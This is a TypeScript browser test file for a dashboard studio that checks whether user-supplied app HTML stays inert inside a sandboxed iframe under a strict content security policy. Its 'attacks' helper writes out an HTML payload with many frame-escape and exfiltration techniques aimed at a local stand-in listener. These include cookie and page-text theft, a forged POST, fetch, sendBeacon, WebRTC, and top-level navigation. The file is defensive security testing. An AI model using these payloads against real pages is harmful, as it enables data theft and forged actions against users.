// A dashboard that is an app: what somebody else's code can do on the page, which is to be read.
import { createServer } from "node:net";
import { afterAll, beforeAll, describe, expect, it, onTestFinished } from "vitest";
import { type Browser, hasBrowser } from "../support/browser.ts";
import { axe } from "./axe.ts";
import { open, openStudio, PROJECT, type StudioPage, until } from "./studio-page.ts";
import { startStudio } from "./studio-server.ts";

const FILE = "dashboards/app.yaml";

const appFile = (html: string) =>
  JSON.stringify({
    workbooks: {
      app: {
        name: "An app",
        dashboard: { kind: "APP", app: { html, files: { "main.js": "let one = 1;", "a.css": "b {}" } } },
      },
      empty: { name: "Nothing", dashboard: { kind: "APP", app: { entry: "m.tsx" } } },
    },
  });

/** Who listens for code that gets out: every connection counts. */
async function listener() {
  let connections = 0;
  const server = createServer((socket) => {
    connections += 1;
    socket.destroy();
  });
  await new Promise<void>((done) => server.listen(0, "127.0.0.1", done));
  onTestFinished(() => void server.close());
  const { port } = server.address() as { port: number };
  return { to: `127.0.0.1:${port}`, connections: () => connections };
}

/** Every way out of a frame that a script or markup has. */
const attacks = (to: string) => `<!doctype html><html><head>
<link rel="preconnect" href="http://${to}"><link rel="stylesheet" href="http://${to}/a.css"><link rel="prefetch" href="http://${to}/b">
<meta http-equiv="refresh" content="0; url=http://${to}/c"><style>@import "http://${to}/d.css"; body { background: url(http://${to}/e) }</style>
<script src="http://${to}/f.js"></script></head><body><img src="http://${to}/g" onerror="parent.hacked = 1"><iframe src="http://${to}/h"></iframe>
<iframe srcdoc="<script>location = 'http://${to}/i'</script>"></iframe><object data="http://${to}/j"></object><a id="a" href="http://${to}/k" target="_top">a</a>
<form id="form" action="http://${to}/l" target="_top"></form>
<script>
const all = [
  () => { parent.document.title = document.cookie || "read"; },
  () => { parent.document.title = parent.document.body.innerText; },
  () => { localStorage.setItem("hacked", "1"); },
  () => { fetch("/api/undo", { method: "POST", headers: { "content-type": "application/json" }, body: '{"slug":"app"}' }); },
  () => { fetch("http://${to}/m"); },
  () => { new RTCPeerConnection({ iceServers: [{ urls: "stun:${to}" }] }).createDataChannel("a"); },
  () => { navigator.sendBeacon("http://${to}/n", "a"); },
  () => { open("http://${to}/o"); },
  () => { document.getElementById("a").click(); },
  () => { document.getElementById("form").submit(); },
  () => { top.location = "http://${to}/p"; },
  () => { location = "http://${to}/q"; },
  () => { alert(1); },
];
for (const one of all) try { one(); } catch {}
document.body.dataset.ran = "yes";
</script></body></html>`;

interface Frame {
  url(): string;
  evaluate(script: string): Promise<unknown>;
}
const framesOf = (page: StudioPage) => (page as unknown as { frames(): Frame[] }).frames();

/** The frame with that source, once it is there. */
async function frameOf(page: StudioPage, source: number): Promise<Frame> {
  for (;;) {
    const frame = framesOf(page).find((one) => one.url().endsWith(`/app?slug=app&source=${source}`));
    if (frame && (await frame.evaluate("document.readyState === 'complete'").catch(() => false)))
      return frame;
    await new Promise((resolve) => setTimeout(resolve, 20));
  }
}

describe.skipIf(!hasBrowser)("an app on the page", () => {
  let browser: Browser;
  beforeAll(async () => {
    browser = await open();
  });
  afterAll(() => browser.close());

  it("is text, of no origin, that runs nothing and asks nobody for anything", async () => {
    const { to, connections } = await listener();
    const html = attacks(to);
    const { page, noticed } = await openStudio(browser, { files: { [FILE]: appFile(html) } });
    const asked: string[] = [];
    page.on("request", (request) => asked.push(request.url()));
    await page.evaluate("localStorage.setItem('kept', '1')");
    const frame = await frameOf(page, 0);
    expect(
      await frame.evaluate("[origin, document.contentType, document.scripts.length, document.images.length]"),
    ).toEqual(["null", "text/plain", 0, 0]);
    expect(await frame.evaluate("document.body.textContent")).toBe(html);
    expect(await page.locator("iframe").getAttribute("sandbox")).toBe("");
    // Even a script that got in there would reach nothing of the page.
    for (const reach of [
      "document.cookie",
      "localStorage.kept",
      "parent.document.title",
      "top.location.href",
    ])
      expect(await frame.evaluate(`(() => { try { return ${reach}; } catch { return "no"; } })()`)).toBe(
        "no",
      );
    expect(
      await frame.evaluate(
        "fetch(location.href.replace(/app.*/, 'api/project'), { credentials: 'include' }).then(() => 'in', () => 'no')",
      ),
    ).toBe("no");
    await page.getByRole("button", { name: "main.js" }).click();
    expect(await (await frameOf(page, 2)).evaluate("document.body.textContent")).toBe("let one = 1;");
    expect(
      await page.evaluate("[document.title, location.pathname + location.hash, String(window.hacked)]"),
    ).toEqual(["studio · Boardwright", "/#/app/default", "undefined"]);
    expect(connections()).toBe(0);
    expect(asked.filter((url) => url.includes(to))).toEqual([]);
    // What the test itself tried from within the frame is all that a policy refused.
    expect(noticed.filter((line) => !line.includes("/api/project"))).toEqual([]);
    expect(await axe(page)).toEqual([]);
  });

  it("follows its file, and says that it has none yet", async () => {
    const { page, write } = await openStudio(browser, { files: { [FILE]: appFile("<p>one</p>") } });
    expect(await (await frameOf(page, 0)).evaluate("document.body.innerText")).toBe("<p>one</p>");
    write(FILE, appFile("<p>two</p>"));
    for (;;) {
      const text = await (await frameOf(page, 0)).evaluate("document.body.innerText").catch(() => "");
      if (text === "<p>two</p>") break;
    }
    await page.evaluate("location.hash = '#/empty/default'");
    await until(page, "document.querySelector('.empty')?.textContent.includes('no sources yet')");
  });
});

it("is answered to a frame of the page alone, and with a policy that allows nothing", async () => {
  const { send, cookie } = await startStudio({ "boardwright.yaml": PROJECT, [FILE]: appFile("<p>one</p>") });
  const ask = (query: string, headers: Record<string, string>) => send(`/app?${query}`, { headers });
  const framed = { "sec-fetch-dest": "iframe", "sec-fetch-site": "same-origin" };
  const { status, headers, text } = await ask("slug=app&source=0", { cookie, ...framed });
  expect([status, text]).toEqual([200, "<p>one</p>"]);
  expect(headers).toMatchObject({
    "content-type": "text/plain; charset=utf-8",
    "content-security-policy": "sandbox; default-src 'none'; frame-ancestors 'self'",
    "x-content-type-options": "nosniff",
  });
  expect((await ask("slug=app&source=0", framed)).status).toBe(401);
  const others: Record<string, string>[] = [
    { "sec-fetch-dest": "document" },
    { "sec-fetch-dest": "script" },
    { "sec-fetch-site": "cross-site" },
    { origin: "null" },
  ];
  for (const foreign of others)
    expect((await ask("slug=app&source=0", { cookie, ...framed, ...foreign })).status).toBe(403);
  expect((await ask("slug=app&source=0", { cookie })).status).toBe(403);
  for (const query of [
    "slug=app&source=3",
    "slug=app&source=-1",
    "slug=app&source=x",
    "slug=empty&source=0",
    "slug=none",
    "",
  ])
    expect([query, (await ask(query, { cookie, ...framed })).status]).toEqual([query, 404]);
});
